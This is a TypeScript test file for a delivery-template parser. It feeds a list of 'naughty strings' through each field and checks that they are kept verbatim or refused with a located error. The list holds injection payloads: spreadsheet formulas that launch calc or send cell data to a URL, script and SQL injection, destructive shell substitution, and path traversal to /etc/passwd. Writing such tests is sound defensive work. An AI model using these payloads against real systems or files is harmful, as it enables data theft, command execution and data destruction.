import { describe, expect, test } from 'vitest';
import { readDelivery } from '../../../domain/delivery/template/delivery.ts';
import { type DeliveryKind, TEMPLATES } from '../../../domain/delivery/template/template.ts';

/** Texts that programs choke on, and texts that a spreadsheet would run: through every field that takes text. */
const NAUGHTY: readonly string[] = [
  // What a spreadsheet takes for a formula.
  ...[
    '=1+1',
    "=cmd|' /C calc'!A0",
    '@SUM(1+1)',
    '+2+5',
    "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("https://example.org";"klik")',
  ],
  ...['=IMPORTXML(CONCAT("https://example.org/?",A1),"//a")', '%0A=1+1', '＝1+1', '"=1+1"', "'=1+1", ';=1+1'],
  // What a page, a shell or a database would run.
  ...[
    '<script>alert(1)</script>',
    '"><img src=x onerror=alert(1)>',
    '&lt;b&gt;',
    "'; DROP TABLE rijen; --",
    '$(rm -rf .)',
    '`id`',
  ],
  ...[
    ['$', '{7*7}'].join(''),
    '{{7*7}}',
    '%s%n%p',
    '../../../etc/passwd',
    'C:\\con\\con',
    '\\\\server\\share',
    'file:///',
  ],
  // Names that mean something to a program.
  ...[
    '__proto__',
    'constructor',
    'toString',
    'hasOwnProperty',
    'undefined',
    'null',
    'NaN',
    'Infinity',
    'true',
    'SLUITREGE',
  ],
  // Numbers that are no numbers.
  ...['1e309', '0x1F', '1_000', '٣', '1/3', '1.#INF', '00', '-0'],
  // Letters of all kinds.
  ...[
    'é',
    'e\u0301',
    'İstanbul',
    'ﬁets',
    'ß',
    '社會科學院',
    '찦차를 타고',
    'تجربة',
    'שלום',
    '𝕳𝖊𝖊𝖗𝖑𝖊𝖓',
    '👩‍👩‍👧‍👦',
    '🇳🇱',
    '\u{1F9D1}\u{1F3FF}',
  ],
  ...[
    'Z\u0351\u036b\u0343\u036aA\u0342L\u0360G\u0337O',
    '\u200bx',
    'a\u200db',
    'a\u00adb',
    '\u202etxet',
    'a\u2028b',
    'a\ufeffb',
    '\ufffd',
    '\ufffe',
  ],
  // Quotes, delimiters and line ends.
  ...['"', '""', '"""', ';', ';;', ',', '|', 'a\tb', 'a\nb', 'a\r\nb', '"\n"', '\\"', "O'Brien", '’s-Hertogenbosch'],
  'x'.repeat(2_000),
  '"'.repeat(99),
];

const SOUND: Readonly<Record<DeliveryKind, readonly string[]>> = {
  members: ['Parkstad', '1', 'interventie', '2025', '', '', '120', '1440'],
  costs: ['Parkstad', '1', 'interventie', 'Wmo', '', '2025', '', '', '120', '1440'],
  investments: ['MUN', '2025', '4', 'uren', '1440', 'bon'],
  indicators: ['prik', 'interventie', '2025', '1440', '2000', 'bron'],
};

const quoted = (text: string): string => `"${text.replaceAll('"', '""')}"`;

/** The file of one row in which a text stands in the column of a heading. */
const readWith = (kind: DeliveryKind, heading: string, text: string) => {
  const headings = TEMPLATES[kind].columns.filter(({ isOptional }) => !isOptional).map((column) => column.heading);
  const cells = SOUND[kind].map((cell, place) => quoted(headings[place] === heading ? text : cell));
  const closing = ['SLUITREGEL', '1', '1440', ...headings.slice(3).map(() => '')];
  const file = [headings, cells, closing].map((row) => row.join(';')).join('\r\n');
  return readDelivery(kind, new TextEncoder().encode(file));
};

const fields = Object.entries(TEMPLATES).flatMap(([kind, { columns }]) =>
  columns
    .filter((column) => !column.isOptional && !column.isNumber)
    .map((column) => [kind as DeliveryKind, column.heading, column.kind] as const),
);

const columnOf = (kind: DeliveryKind, heading: string): number =>
  TEMPLATES[kind].columns.findIndex((each) => each.heading === heading) + 1;

describe('every naughty string comes out of a field as it went in, or is refused by name on its place', () => {
  test.each(fields.filter(([, , holds]) => ['text', 'code', 'optionalCode'].includes(holds)))(
    '%s, %s takes them as they are',
    (kind, heading) => {
      for (const text of NAUGHTY) {
        const reading = readWith(kind, heading, text);
        expect({ text, isAccepted: 'delivery' in reading }).toEqual({ text, isAccepted: true });
        expect(JSON.stringify(reading)).toContain(JSON.stringify(text.trim()).slice(1, -1));
      }
    },
  );

  test.each(fields.filter(([, , holds]) => ['cohort', 'period', 'sex'].includes(holds)))(
    '%s, %s refuses them',
    (kind, heading, holds) => {
      const code = { cohort: 'cohort_is_unknown', period: 'period_is_malformed', sex: 'sex_is_unknown' }[
        holds as 'sex'
      ];
      const at = { code, line: 2, column: columnOf(kind, heading) };
      for (const text of NAUGHTY) {
        const reading = readWith(kind, heading, text);
        const problems = 'problems' in reading ? reading.problems : [];
        expect({ text, problems }).toMatchObject({ text, problems: [at] });
        expect(problems[0]?.message.length).toBeLessThan(600);
      }
    },
  );

  test('none of them is a number', () => {
    for (const text of NAUGHTY.filter((each) => !['00', '-0', '+2+5'].includes(each))) {
      const reading = readWith('costs', 'bedrag', text);
      expect({ text, codes: 'problems' in reading && reading.problems.map(({ code }) => code) }).toEqual({
        text,
        codes: [text === '1e309' ? 'number_is_scientific' : 'number_is_malformed'],
      });
    }
  });

  test('what cannot be seen is shown by its code, so that no message can be turned around', () => {
    const reading = readWith('members', 'cohort', '\u202etxet\u200b');
    expect('problems' in reading && reading.problems[0]?.message).toContain('"<U+202E>txet<U+200B>"');
  });
});
